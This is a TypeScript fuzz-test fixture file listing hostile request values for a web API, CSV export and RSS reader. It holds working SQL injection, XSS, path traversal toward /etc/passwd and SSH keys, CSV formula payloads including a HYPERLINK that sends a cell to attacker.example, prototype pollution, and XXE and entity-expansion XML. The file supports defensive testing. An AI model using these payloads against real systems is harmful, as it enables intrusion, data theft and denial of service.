/**
 * The hostile values the fuzz suite plants in requests, by kind. Each kind is a list a seeded
 * random generator picks from (fast-check adds random strings and JSON of its own on top).
 */

/** SQL fragments: quoting, comments, stacked statements, LIKE wildcards, casts, placeholders. */
export const SQL_FRAGMENTS = [
  "' OR '1'='1", "' OR 1=1 --", '"; DROP TABLE users; --', "'; DELETE FROM authors WHERE ''='", "1; UPDATE users SET type='admin'",
  "' UNION SELECT password_hash, email FROM users --", '%', '_', '%%%%', '\\', "\\'", "''", '$1', '$$', '::text', "1' AND pg_sleep(5)--",
  "admin'--", '1 OR 1=1', "' || (SELECT version()) || '", 'E\'\\x00\'', '/**/', ';', 'NULL', 'null', 'undefined', 'true',
];

/** Script and template fragments (stored XSS, template injection, header and log injection). */
export const SCRIPT_FRAGMENTS = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg onload=alert(1)>', '{{7*7}}', '${7*7}', '#{7*7}',
  '<%= 7*7 %>', '</textarea><script>alert(document.cookie)</script>', 'line\r\nSet-Cookie: injected=1', 'a\nfake log line level=error',
  '<!--', ']]>', '&lt;script&gt;', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

/** Path traversal and file-name tricks (for file names and path parameters). */
export const TRAVERSAL_FRAGMENTS = [
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', '....//....//etc/passwd', '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%252f..%252fetc%252fpasswd', 'cv-00000000-0000-0000-0000-000000000000.pdf/../../etc/passwd',
  'cv-../../x.pdf', '.env', '.data/jwt-secret', 'C:\\Windows\\System32', '\\\\server\\share', 'file:///etc/passwd', '~/.ssh/id_rsa',
  'picture-x.png\u0000.pdf', 'cv.pdf%00.png', 'CON', 'aux.pdf', '.', '..', ' ', 'a'.repeat(300) + '.pdf',
];

/** Spreadsheet formulas (CSV injection): must come out of every CSV export neutralised. */
export const CSV_FORMULAS = [
  '=1+1', '=HYPERLINK("http://attacker.example/?q="&A1,"Click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '=cmd|\' /C notepad\'!\'A1\'',
  // issue 17: a ';' splits an unquoted cell in ';'-separated locales; full-width formula starts are read as ASCII
  'x;=cmd|\' /C calc\'!A0', 'a;+SUM(1,2)', '\uFF1D1+1', '\uFF0BSUM(1,2)', '\uFF0D2+3', '\uFF20SUM(1+1)',
];

/** Unicode edge cases: lone surrogates, bidi overrides, zero-width, NUL and other controls, noncharacters, combining marks. */
export const UNICODE_EDGES = [
  '\uD800', '\uDFFF', 'abc\uD83Dxyz', '\uDE00\uD83D', '\u202Eevil\u202C', '\u200F\u200Eرسالة', 'שלום עולם', '\u200B', 'a\u200Bb\u200Cc\u200Dd\uFEFF',
  '\u0000', 'a\u0000b', '\u0001\u0002\u0007\u001B[31m', '\u007F\u0085\u2028\u2029', '\uFFFE\uFFFF', '\uFFFD', 'e\u0301\u0301\u0301\u0301',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̔ͮ̇͐̇', '𝕳𝖊𝖑𝖑𝖔', '👩‍👩‍👧‍👦', '\u{10FFFF}', 'İıſK', 'ß', 'ﬀ', 'ＡＢＣ', '\u00A0\u2003\u3000', '٣٤٥', '🇺🇸',
];

/** Wrong-typed JSON values and number edges (for fields of any type). */
export const WRONG_TYPES: unknown[] = [
  null, true, false, 0, -1, 1.5, -0, 2 ** 31, 2 ** 53 + 2, -(2 ** 63), 1e308, 5e-324, '', ' ', '0', '-1', '1e3', '0x10', 'NaN', 'Infinity',
  '1 ', ' 1', '١', [], [1], ['a'], {}, { a: 1 }, [[[]]], { $gt: '' }, { toString: 'x' },
];

/** Number-like query and path texts (everything in a URL is text). */
export const NUMBER_TEXTS = [
  '0', '-1', '1.5', '2147483648', '9007199254740993', '1e3', '1e309', '-0', '0x1F', '0b11', ' 7', '7 ', '+7', '007', 'NaN', 'Infinity', '', '١٢', '1,2', '1;2',
];

/** Deeply nested JSON values (depth given), alternating arrays and objects. */
export function nested(depth: number): unknown {
  let value: unknown = 'deep';
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

/** Raw request bodies that are not JSON, or JSON that Fastify must refuse. */
export const RAW_JSON_BODIES = [
  '{', '{"a":', '[1,2', '{"a":1}}', 'nul', "{'a':1}", '{"a":1,}', '\u0000', '"\uD800"', '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}', '{"a":1e999999}', '[' .repeat(100_000) + ']'.repeat(100_000), '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000),
  '\uFEFF{}', '   ', '0', '-', 'true', '"text"',
];

/** Content types a JSON route must refuse (415) or fail to parse (400). */
export const WRONG_CONTENT_TYPES = [
  'text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-7',
  'application/octet-stream', 'image/png', 'application/json\r\nX-Injected: 1', 'application/jsonx', '*/*',
];

/** XML documents a feed reader must not trust: external entities, entity expansion, an external DTD, not a feed. */
export const HOSTILE_XML = {
  externalEntity: `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><link>http://127.0.0.1/a</link><description>&xxe;</description></item></channel></rss>`,
  billionLaughs: `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>`,
  externalDtd: `<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/evil.dtd">
<rss version="2.0"><channel><title>t</title><item><title>x</title></item></channel></rss>`,
  parameterEntity: `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>`,
  notXml: '{"this":"is json, not a feed"}',
  truncated: '<?xml version="1.0"?><rss version="2.0"><channel><title>cut',
  scriptInItems: `<?xml version="1.0"?>
<rss version="2.0"><channel><title>t</title><item><title><![CDATA[<script>alert(1)</script>]]></title><link>javascript:alert(1)</link><description>=HYPERLINK("http://x")</description></item></channel></rss>`,
} as const;

/** A marker that must never appear in a response: the first line of /etc/passwd, read through an external entity. */
export const PASSWD_MARKER = 'root:x:0:0';

export const ALL_STRING_FRAGMENTS = [...SQL_FRAGMENTS, ...SCRIPT_FRAGMENTS, ...TRAVERSAL_FRAGMENTS, ...CSV_FORMULAS, ...UNICODE_EDGES];
